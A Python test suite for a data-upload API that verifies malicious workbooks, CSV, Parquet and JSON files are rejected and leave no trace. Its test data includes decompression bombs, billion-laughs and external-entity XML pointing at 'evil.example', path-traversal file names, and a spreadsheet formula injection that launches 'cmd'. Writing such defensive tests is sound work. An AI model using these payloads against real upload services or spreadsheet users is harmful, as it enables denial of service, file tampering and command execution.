"""Files that are made to do harm: each is refused with a clear word, and nothing of it stays."""

from __future__ import annotations

import io
from collections.abc import Callable, Iterator
from pathlib import Path

import polars as pl
import pytest
from fastapi.testclient import TestClient

from api.http.app import create_app
from api.service.service import Service, open_service
from api.service.settings import read_settings
from tests.api.http import hostile
from tests.api.http.hostile import CELLS, SHEET, sheet_of, workbook
from tests.api.http.sending import UPLOADS

MB = 400
"""Memory that a reading may take here, beside what the process starts with."""


@pytest.fixture(scope="module")
def small(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[TestClient, Service]]:
    """A service that takes 8 MB, and reads in little memory."""
    data = tmp_path_factory.mktemp("hostile") / "data"
    given = {"data": data, "language": "en", "body_mb": 8, "reading_mb": MB, "reading_seconds": 20}
    service = open_service(read_settings(given, environ={}), "teachers")
    with TestClient(
        create_app(service), base_url="http://localhost:8470", raise_server_exceptions=False
    ) as client:
        yield client, service


@pytest.fixture(autouse=True)
def emptied(small: tuple[TestClient, Service]) -> Iterator[None]:
    """What a test leaves is not another's."""
    yield
    _, service = small
    for upload in service.tray.uploads():
        service.tray.discard(upload.id, None)


def refused(small: tuple[TestClient, Service], name: str, content: bytes, status: int, words: str) -> None:
    """Send a file in both ways; it is refused with these words, and nothing stays."""
    http, service = small
    for told in (
        http.post(UPLOADS, files={"file": (name, content)}),
        http.post(UPLOADS, params={"filename": name}, content=content),
    ):
        assert told.status_code == status, told.text
        found = told.json()
        assert (
            words in found["detail"]
            and found["message"]["zh"]
            and str(service.settings.data) not in told.text
        )
        assert "/tmp" not in told.text
    assert list(service.uploads.iterdir()) == [] and http.get(UPLOADS).json()["uploads"] == []


def test_the_least_workbook_is_read(small: tuple[TestClient, Service]) -> None:
    http, _ = small
    told = http.post(UPLOADS, files={"file": ("a.xlsx", workbook())})
    assert told.status_code == 201 and told.json()["rows"] == {"regions": 1}
    http.delete(f"{UPLOADS}/{told.json()['id']}")


BOMBS: dict[str, tuple[Callable[[], bytes], int, str]] = {
    "burst": (lambda: hostile.burst(60), 413, "packed"),
    "burst in all": (lambda: hostile.burst(70), 413, "unpacks to"),
    "lying": (lambda: hostile.lying(1000, 3_000_000), 413, "larger than it says"),
    "overlapping": (hostile.overlapping, 422, "hidden"),
    "many parts": (lambda: workbook(*((f"xl/a{n}.xml", "<a/>") for n in range(2100))), 413, "2105 parts"),
    "wide sheet": (hostile.wide_sheet, 422, "memory"),
    "laughs": (hostile.billion_laughs, 422, "XML entities"),
    "utf-16": (hostile.entity_in_utf16, 422, "no XML in UTF-8"),
    "external entity": (lambda: workbook(book='<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>'), 422, "XML entities"),
    "utf-7": (lambda: workbook(sheet='<?xml version="1.0" encoding="UTF-7"?>+ADw-a/>'), 422, "no XML in UTF-8"),
    "entity across pieces": (hostile.entity_across_pieces, 422, "XML entities"),
    "macros": (lambda: workbook(("xl/vbaProject.bin", b"\0")), 422, "macros"),
    "excel 4 macros": (lambda: workbook(("xl/macrosheets/sheet1.xml", "<a/>")), 422, "macros"),
    "external link": (lambda: workbook(("xl/externalLinks/externalLink1.xml", "<a/>")), 422, "links to other workbooks"),
    "connection": (lambda: workbook(("xl/connections.xml", "<a/>")), 422, "connections"),
    "embedded": (lambda: workbook(("xl/embeddings/oleObject1.bin", b"\0")), 422, "embedded"),
    "relation to elsewhere": (
        lambda: workbook(rels='<Relationships><Relationship Id="a" Type="http://x/attachedTemplate" Target="http://evil.example/" TargetMode="External"/></Relationships>'),
        422, "leads outside",
    ),
    "formula": (
        lambda: workbook(sheet=sheet_of(CELLS + '<row r="3"><c r="B3" s="1"><f>cmd|\'/c calc\'!A1</f><v>1</v></c></row>')),
        422, f"{SHEET} B3 of the workbook has formulas",
    ),
    "traversal": (lambda: workbook(("../../etc/cron.d/x.xml", "<a/>")), 422, "leads out of it"),
    "absolute": (lambda: workbook(("/etc/x.xml", "<a/>")), 422, "leads out of it"),
    "backslash": (lambda: workbook(("xl\\..\\..\\x.xml", "<a/>")), 422, "leads out of it"),
    "link": (hostile.link_in_archive, 422, "is a link"),
    "encrypted": (hostile.encrypted, 422, "encrypted"),
    "archive in front": (lambda: b"MZ" + workbook(), 422, "a program"),
    "shifted": (lambda: b"PK\x03\x04" + b"\0" * 60 + workbook(), 422, "hidden"),
    "behind": (lambda: workbook() + b"<html>", 422, "behind"),
    "cut off": (lambda: workbook()[:-30], 422, "damaged"),
    "no workbook": (lambda: b"PK\x03\x04" + b"x" * 500, 422, "damaged"),
    "old excel": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, 422, "old or encrypted"),
    "text": (lambda: b"code\na\n", 422, "it is text"),
    "empty": (lambda: b"", 422, "nothing was sent"),
}  # fmt: skip


@pytest.mark.parametrize("kind", BOMBS)
def test_workbooks_that_are_made_to_do_harm(small: tuple[TestClient, Service], kind: str) -> None:
    make, status, words = BOMBS[kind]
    refused(small, "a.xlsx", make(), status, words)


def test_a_workbook_with_macros_by_its_name_is_refused_at_once(small: tuple[TestClient, Service]) -> None:
    refused(small, "a.xlsm", workbook(), 415, "macros")


FILES: dict[str, tuple[str, Callable[[], bytes], int, str]] = {
    "a million columns": ("regions.csv", lambda: b",".join(b"c%d" % n for n in range(10**6)) + b"\n1\n", 413, "first line"),
    "two thousand columns": ("regions.csv", lambda: b",".join(b"c%d" % n for n in range(2000)) + b"\n1\n", 413, "2,000 columns"),
    "a line without end": ("regions.csv", lambda: b"x" * (1 << 20), 413, "first line"),
    "csv with an archive behind": ("regions.csv", lambda: b"code,name\na,A\n" + workbook(), 422, "an archive is hidden"),
    "archive called csv": ("regions.csv", workbook, 422, "an archive or a workbook"),
    "parquet called csv": ("regions.csv", hostile.parquet, 422, "it is Parquet"),
    "program called csv": ("regions.csv", lambda: b"\x7fELF\2\1\1", 422, "a program"),
    "csv called parquet": ("regions.parquet", lambda: b"code\na\n", 422, "it is text"),
    "cut off": ("regions.parquet", lambda: hostile.parquet()[:-5], 422, "cut off"),
    "cut in the middle": ("regions.parquet", hostile.parquet_with_a_hole, 422, "cannot be read"),
    "only its ends": ("regions.parquet", lambda: b"PAR1" + b"\xff" * 64 + b"PAR1", 422, "footer"),
    "parquet and archive": ("regions.parquet", lambda: hostile.parquet() + workbook(), 422, "cut off"),
    "archive in a parquet": ("regions.parquet", lambda: hostile.parquet()[:4] + workbook() + hostile.parquet()[4:], 422, ""),
    "absurd rows": ("regions.parquet", hostile.parquet_of_absurd_rows, 422, ""),
    "nested": ("regions.parquet", lambda: hostile.parquet(pl.DataFrame({"code": [{"a": 1}]})), 422, "other than plain values"),
    "many columns": ("regions.parquet", lambda: hostile.parquet(pl.DataFrame({f"c{n}": ["x"] for n in range(1200)})), 413, "1,200 columns"),
    "nested json": ("regions.json", lambda: b"[" * 100_000, 422, "nested"),
    "no rows": ("regions.json", lambda: b'{"a": 1}', 422, "a list of rows"),
    "object in a cell": ("regions.json", lambda: b'[{"code": {"a": 1}}]', 422, "must hold texts"),
    "endless number": ("regions.json", lambda: b'[{"code": ' + b"9" * 100_000 + b"}]", 422, "JSON"),
    "unknown form": ("regions.exe", lambda: b"x", 415, "of no form"),
    "unknown table": ("nix.csv", lambda: b"code\na\n", 422, "no table nix"),
    "too large": ("regions.csv", lambda: b"code\n" + b"a\n" * (5 << 20), 413, "at most 8 MB"),
}  # fmt: skip


@pytest.mark.parametrize("kind", FILES)
def test_files_that_are_made_to_do_harm(small: tuple[TestClient, Service], kind: str) -> None:
    name, make, status, words = FILES[kind]
    refused(small, name, make(), status, words)


@pytest.mark.parametrize("kind", ["parquet", "workbook"])
def test_what_grows_at_reading_ends_at_its_limit_of_memory(
    small: tuple[TestClient, Service], kind: str
) -> None:
    if kind == "parquet":
        content = hostile.parquet_that_bursts(3_000_000)  # 15 GB once read
        assert len(content) < 1 << 20
        refused(small, "regions.parquet", content, 422, f"more than {MB} MB of memory")
    else:
        refused(small, "a.xlsx", hostile.wide_sheet(), 422, f"more than {MB} MB of memory")


def test_rows_that_are_wrong_are_told_and_only_the_report_is_kept(small: tuple[TestClient, Service]) -> None:
    http, service = small
    invalid = b"code,name,level,parent\na,\xe5\x8c\x97\xe4\xba\xac,state,\nb,\xe5\x8c\xff\xe4,district,a\n"
    personal = b"code,name,level,parent\na,A 13800138000,state,\n"
    for content, kind, shown in ((invalid, "wrong-encoding", None), (personal, "personal-number", "***")):
        told = http.post(UPLOADS, files={"file": ("regions.csv", content)})
        assert told.status_code == 201 and told.json()["state"] == "refused"
        (error,) = told.json()["report"]["tasks"][0]["errors"]
        assert error["type"] == kind and error["cell"] == shown and "13800138000" not in told.text
        kept = service.uploads / told.json()["id"]
        assert sorted(f.name for f in kept.iterdir()) == ["report.csv", "upload.json"]
        assert "13800138000" not in (kept / "report.csv").read_text()
        assert (
            http.post(f"{UPLOADS}/{kept.name}/commit", json={"into": "network", "why": "x"}).status_code
            == 409
        )
        http.delete(f"{UPLOADS}/{kept.name}")


@pytest.mark.parametrize(
    "name",
    ["../../etc/passwd.csv", "..\\..\\regions.csv", "/regions.csv", "regions.csv/../../x.csv", "a\0.csv"],
)
def test_names_of_files_lead_nowhere(small: tuple[TestClient, Service], name: str, tmp_path: Path) -> None:
    http, service = small
    content = b"code,name,level,parent\na,A,state,\n"
    told = http.post(UPLOADS, params={"filename": name, "table": "regions"}, content=content)
    assert told.status_code == 201, told.text
    upload = service.uploads / told.json()["id"]
    assert sorted(str(f.relative_to(upload)) for f in upload.rglob("*") if f.is_file()) == [
        "report.csv", "tables/regions.parquet", "upload.json",
    ]  # fmt: skip
    source = pl.read_parquet(upload / "tables" / "regions.parquet")["source"].to_list()
    assert source == ["regions.csv"]
    http.delete(f"{UPLOADS}/{upload.name}")
    assert list(service.uploads.iterdir()) == []


def test_text_that_a_spreadsheet_would_run_is_text_again_in_the_report(
    small: tuple[TestClient, Service],
) -> None:
    http, _ = small
    content = b"code,name,level,parent\na,A,=cmd|'/c calc'!A1,\n"
    told = http.post(UPLOADS, files={"file": ("regions.csv", content)})
    report = http.get(f"{UPLOADS}/{told.json()['id']}/report.csv")
    assert report.headers["Content-Disposition"].startswith("attachment")
    cell = pl.read_csv(io.BytesIO(report.content), infer_schema=False)["value"][0]
    assert cell.startswith("'=cmd")
    http.delete(f"{UPLOADS}/{told.json()['id']}")
